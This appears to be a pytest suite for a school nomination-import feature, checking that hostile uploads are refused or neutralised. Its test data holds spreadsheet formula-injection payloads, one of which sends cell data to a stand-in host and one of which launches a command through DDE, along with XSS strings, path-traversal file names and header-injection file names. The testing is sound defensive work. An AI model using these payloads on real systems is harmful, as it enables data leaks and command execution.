"""Hostile nomination uploads: formulas in cells, wrong encodings and binary files, huge
files, and malicious file names; and every spreadsheet export neutralises formulas."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from lms.insight.exports import COMMON_SECTIONS
from lms.organisations import services
from lms.platform.roles import Role
from lms.platform.spreadsheets import FORMULA_STARTS
from lms.programme.imports import CSV_COLUMNS, MAX_IMPORT_ROWS, safe_filename
from lms.programme.models import ImportStatus, Nomination, NominationImport
from lms.programme.views import MAX_IMPORT_BYTES
from tests.conftest import TEST_PASSWORD, complete_second_factor
from tests.factories import make_endorsement, make_member, make_nomination, make_school

HEADER = ",".join(CSV_COLUMNS)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+1 Plus",
    "-2+3 Minus",
    "@SUM(A1:A9)",
    "\t=1+1 Tab",
    "\r=1+1 Return",
]
CALC = "=cmd|' /C calc'!A0"


def _csv(*rows: str) -> bytes:
    return ("\n".join([HEADER, *rows]) + "\n").encode()


def _row(name: str, n: int) -> str:
    cell = '"' + name.replace('"', '""') + '"'
    return f"{cell},person{n}@school.example,other,no,,primary,Reading"


@pytest.fixture
def leader(db_session, sign_in):
    school = make_school()
    leader = make_member(Role.SCHOOL_LEADER, school=school)
    db_session.commit()
    return school, sign_in(leader)


def _upload(client, school, content: bytes, filename="tutors.csv"):
    """The form as a browser sends it (encoded in memory: the test client's own encoder
    spools large bodies to a file it never closes)."""
    boundary, body = encode_multipart({
        "csrf_token": client.csrf_token(),
        "file": FileStorage(io.BytesIO(content), filename=filename, content_type="text/csv")})
    return client.post(f"/schools/{school.id}/nominations/import", data=body, csrf=False,
                       content_type=f"multipart/form-data; boundary={boundary}")


def _nothing_imported(db_session) -> None:
    assert db_session.scalars(select(NominationImport)).all() == []
    assert db_session.scalars(select(Nomination)).all() == []


def _refused(db_session, response, *words: str) -> str:
    page = response.get_data(as_text=True)
    assert response.status_code == 400, (response.status_code, page[:300])
    assert "There is a problem" in page
    for word in words:
        assert word in page, word
    _nothing_imported(db_session)
    return page


# --- formulas in cells --------------------------------------------------------------------


def test_formulas_in_cells_are_stored_as_plain_text_and_exported_inert(db_session, leader):
    school, client = leader
    response = _upload(client, school, _csv(*(_row(f, n) for n, f in enumerate(FORMULAS))))
    assert response.status_code == 302
    report = db_session.scalars(select(NominationImport)).one()
    assert report.status == ImportStatus.DONE and report.imported_rows == len(FORMULAS)
    names = {n.candidate_name for n in db_session.scalars(select(Nomination))}
    # Kept exactly as typed (less the surrounding white space every name loses).
    assert names == {f.strip() for f in FORMULAS}
    page = client.get(f"/schools/{school.id}/nominations").get_data(as_text=True)
    assert str(escape(FORMULAS[0])) in page and FORMULAS[0] not in page
    for fmt in ("csv", "xlsx"):
        rows = _export(client.get(f"/schools/{school.id}/dashboard/candidates.{fmt}"), fmt)
        exported = {row[0] for row in rows[1:]}
        assert exported == {"'" + f.strip() for f in FORMULAS}
        _inert(rows)


def test_the_error_report_escapes_what_it_echoes(db_session, leader):
    school, client = leader
    content = _csv(
        '"<script>alert(1)</script>",<b>@school.example,other,no,,primary,',
        '"=HYPERLINK(""x"")",=sum@school.example,other,no,,primary,',
        '"Twice",=SUM@school.example,other,no,,nursery,',
        '"Again",=sum@school.example,other,no,,primary,',
    )
    response = _upload(client, school, content, filename="<img src=x onerror=alert(1)>.csv")
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    report = db_session.scalars(select(NominationImport)).one()
    assert report.status == ImportStatus.INVALID
    assert "<script>alert" not in page and "<b>" not in page and "<img" not in page
    assert "=sum@school.example is also on line 3" in page
    assert db_session.scalars(select(Nomination)).all() == []


# --- wrong encodings and files that are not CSV -------------------------------------------


def _xlsx_bytes() -> bytes:
    from lms.platform.spreadsheets import write_xlsx

    out = io.BytesIO()
    write_xlsx(out, sheet="Nominations", headings=CSV_COLUMNS,
               rows=[["Sam", "sam@school.example", "other", "no", "", "primary", ""]])
    return out.getvalue()


def _zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("tutors.csv", _csv(_row("Sam", 1)))
    return out.getvalue()


PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00"
       b"\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe"
       b"\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82")
TEXT = (HEADER + "\nZoë Brontë,zoe@school.example,other,no,,primary,\n")


@pytest.mark.parametrize("content, words", [
    (b"\xff\xfe" + TEXT.encode("utf-16-le"), ["UTF-16", "CSV UTF-8"]),
    (TEXT.encode("utf-16"), ["UTF-16"]),
    (b"\xfe\xff" + TEXT.encode("utf-16-be"), ["UTF-16"]),
    (TEXT.encode("utf-16-le"), ["not CSV text"]),
    (TEXT.encode("utf-32"), ["not CSV text"]),
    (PNG, ["a PNG image", "not a CSV file"]),
    (_xlsx_bytes(), ["Excel workbook", "CSV UTF-8"]),
    (_zip_bytes(), ["zip file"]),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", ["a PDF"]),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ["old Excel workbook"]),
    (HEADER.encode() + b"\nSam \x81\x8d\x8f\x90\x9d,sam@school.example,other,no,,primary,\n",
     ["not readable text"]),
    # Mostly UTF-8 with one Latin-1 byte: not guessed at, so no name is garbled.
    (HEADER.encode() + "\nZoë,zoe@school.example,other,no,,primary,\n".encode()
     + "Renée,renee@school.example,other,no,,primary,\n".encode("latin-1"),
     ["Line 3 has characters that are not UTF-8"]),
    (b"\x00" * 2048, ["not CSV text"]),
])
def test_wrong_encodings_and_binary_files_are_refused_with_a_clear_message(
        db_session, leader, content, words):
    school, client = leader
    _refused(db_session, _upload(client, school, content), *words)


@pytest.mark.parametrize("encoding", ["cp1252", "latin-1", "utf-8", "utf-8-sig"])
def test_windows_latin_1_and_utf_8_files_are_read(db_session, leader, encoding):
    school, client = leader
    assert _upload(client, school, TEXT.encode(encoding)).status_code == 302
    assert db_session.scalars(select(Nomination)).one().candidate_name == "Zoë Brontë"


# --- huge files ---------------------------------------------------------------------------


def test_a_file_over_the_upload_limit_is_refused_on_the_form(db_session, leader):
    school, client = leader
    big = _csv(_row("Sam", 1)) + b"," * (MAX_IMPORT_BYTES - 50)
    _refused(db_session, _upload(client, school, big), "larger than 5 MB")


def test_a_request_over_the_apps_limit_is_413_with_the_friendly_page(app, db_session, leader):
    school, client = leader
    huge = b"x" * (app.config["MAX_CONTENT_LENGTH"] + 1)
    response = _upload(client, school, huge)
    assert response.status_code == 413 and response.mimetype == "text/html"
    assert "That file is too large" in response.get_data(as_text=True)
    _nothing_imported(db_session)


def test_a_file_of_many_columns_is_refused(db_session, leader):
    school, client = leader
    wide = (HEADER + "," + ",".join(f"extra{n}" for n in range(5000)) + "\n").encode()
    _refused(db_session, _upload(client, school, wide + _row("Sam", 1).encode()),
             "5,007 columns", "template")


def test_a_file_with_a_few_extra_columns_is_still_read(db_session, leader):
    school, client = leader
    content = (HEADER + ",notes\n" + _row("Sam", 1) + ",keen\n").encode()
    assert _upload(client, school, content).status_code == 302
    assert db_session.scalars(select(Nomination)).one().candidate_name == "Sam"


@pytest.mark.parametrize("line", [
    "x" * (1024 * 1024),                               # one cell of a megabyte, unquoted
    '"' + "x" * (1024 * 1024) + '"',                   # ... and quoted
    '"' + "x\n" * (512 * 1024) + '"',                  # ... over many lines
])
def test_a_one_megabyte_line_is_refused_with_the_line_number(db_session, leader, line):
    school, client = leader
    content = _csv(_row("Sam", 1), line)
    page = _refused(db_session, _upload(client, school, content), "Line 3")
    assert "cannot be read as CSV" in page


def test_a_one_megabyte_header_is_refused(db_session, leader):
    school, client = leader
    _refused(db_session, _upload(client, school, b"y" * (1024 * 1024) + b"\n"), "Line 1")


def test_fifty_thousand_empty_rows_are_refused_as_having_no_nominations(db_session, leader):
    school, client = leader
    empty = (HEADER + "\n" + ",,,,,,\n" * 50_000).encode()
    _refused(db_session, _upload(client, school, empty), "no nominations")


def test_empty_rows_around_real_ones_are_skipped(db_session, leader):
    school, client = leader
    content = (HEADER + "\n" + ",,,,,,\n" * 20_000 + _row("Sam", 1) + "\n").encode()
    assert _upload(client, school, content).status_code == 302
    assert db_session.scalars(select(Nomination)).one().candidate_name == "Sam"


def test_more_rows_than_the_form_allows_are_refused(db_session, leader):
    school, client = leader
    content = _csv(*(_row(f"Person {n}", n) for n in range(MAX_IMPORT_ROWS + 1)))
    _refused(db_session, _upload(client, school, content), "5,001 nominations", "at most 5,000")


# --- file names ---------------------------------------------------------------------------


@pytest.mark.parametrize("filename", [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\evil.csv", "/etc/cron.d/evil.csv",
    "<script>alert(1)</script>.csv", '"; filename="evil.exe', "tutors\u202egpj.csv",
    "a\rb.csv", "a\nContent-Type: text/html\n.csv", "Zoë's list.csv", "..", "%2e%2e%2fx.csv",
])
def test_malicious_file_names_are_never_paths_and_are_shown_safely(db_session, leader,
                                                                   filename):
    school, client = leader
    response = _upload(client, school, _csv(_row("Sam", 1)), filename=filename)
    assert response.status_code in (302, 400), response.status_code
    if response.status_code == 400:  # the multipart body was broken: no file, nothing stored
        _nothing_imported(db_session)
        return
    stored = db_session.scalars(select(NominationImport)).one().filename
    assert re.fullmatch(r"[\w. -]{1,100}", stored) and not stored.startswith("."), stored
    page = client.get(response.headers["Location"])
    assert f"<h1>Upload of {escape(stored)}</h1>" in page.get_data(as_text=True)
    for answer in (response, page):
        assert not any(stored in value or filename in value for _, value in answer.headers)


@pytest.mark.parametrize("filename, shown", [
    ("../../etc/passwd", "passwd"),
    ("..\\..\\windows\\win.ini", "win.ini"),
    ("C:\\evil.csv", "evil.csv"),
    ("<script>alert(1)</script>.csv", "script_.csv"),
    ("<img src=x onerror=alert(1)>.csv", "_img src_x onerror_alert_1__.csv"),
    ("evil\x00name\r\n.csv", "evil_name__.csv"),
    ("tutors\u202egpj.csv", "tutors_gpj.csv"),
    ("Zoë's list.csv", "Zoë_s list.csv"),
    ("..", "upload.csv"),
    ("", "upload.csv"),
    (None, "upload.csv"),
])
def test_a_file_name_keeps_no_folders_and_only_plain_characters(filename, shown):
    assert safe_filename(filename) == shown


def test_a_500_character_file_name_is_shortened(db_session, leader):
    school, client = leader
    _upload(client, school, _csv(_row("Sam", 1)), filename="n" * 496 + ".csv")
    stored = db_session.scalars(select(NominationImport)).one().filename
    assert len(stored) <= 100 and stored.endswith(".csv") and "…" in stored


def test_a_file_name_with_a_nul_or_newline_is_stored_safely(app, db_session, leader):
    """Browsers do not send these, but a script can: the raw multipart body, by hand."""
    school, client = leader
    boundary = "----abuse"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n"
            f"{client.csrf_token()}\r\n--{boundary}\r\nContent-Disposition: form-data; "
            'name="file"; filename="evil\x00name\n.csv"\r\nContent-Type: text/csv\r\n\r\n'
            ).encode() + _csv(_row("Sam", 1)) + f"\r\n--{boundary}--\r\n".encode()
    response = client.post(f"/schools/{school.id}/nominations/import", data=body, csrf=False,
                           content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code in (302, 400), response.status_code
    for report in db_session.scalars(select(NominationImport)):
        assert "\x00" not in report.filename and "\n" not in report.filename


# --- every export neutralises formulas ----------------------------------------------------


def _export(response, fmt: str) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="') and disposition.count('"') == 2
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    sheet = load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    return [["" if cell is None else str(cell) for cell in row]
            for row in sheet.iter_rows(values_only=True)]


def _inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def _client(app, user):
    client = app.test_client()
    response = client.post("/sign-in", data={"email": user.email, "password": TEST_PASSWORD})
    assert response.status_code == 302
    complete_second_factor(client, user, response)
    client._token = None
    return client


def test_a_nominee_named_as_a_formula_is_inert_in_every_export(app, db_session):
    school = make_school()
    trust = school.trust
    endorsement = make_endorsement(school, name=CALC, subject_focus="-Maths")
    services.set_nomination_approval(trust, True, actor=None)
    make_nomination(school, name=CALC, email="waiting@school.example")
    central = make_member(Role.CENTRAL_TEAM, trust=trust)
    head = make_member(Role.SCHOOL_LEADER, school=school)
    admin = make_member(Role.PROGRAMME_ADMIN)
    db_session.commit()
    assert endorsement.user.name == CALC
    downloads = {
        central: [f"/trusts/{trust.id}/register"]
        + [f"/trusts/{trust.id}/dashboard/{s}" for s in COMMON_SECTIONS],
        head: [f"/schools/{school.id}/dashboard/{s}" for s in (*COMMON_SECTIONS,
                                                               "candidates")],
        admin: [f"/admin/dashboard/{s}" for s in COMMON_SECTIONS],
    }
    named = set()
    for user, urls in downloads.items():
        client = _client(app, user)
        for url in urls:
            for fmt in ("csv", "xlsx"):
                rows = _export(client.get(f"{url}.{fmt}"), fmt)
                _inert(rows)
                if any("'" + CALC in row for row in rows):
                    named.add(url)
    assert {f"/trusts/{trust.id}/register", f"/trusts/{trust.id}/dashboard/actions",
            f"/schools/{school.id}/dashboard/candidates",
            f"/schools/{school.id}/dashboard/actions",
            "/admin/dashboard/actions"} <= named, named
    # The board report is a page and a PDF: no spreadsheet to run anything in.
    board = _client(app, central)
    for fmt in ("csv", "xlsx"):
        assert board.get(f"/trusts/{trust.id}/board-report.{fmt}").status_code == 404
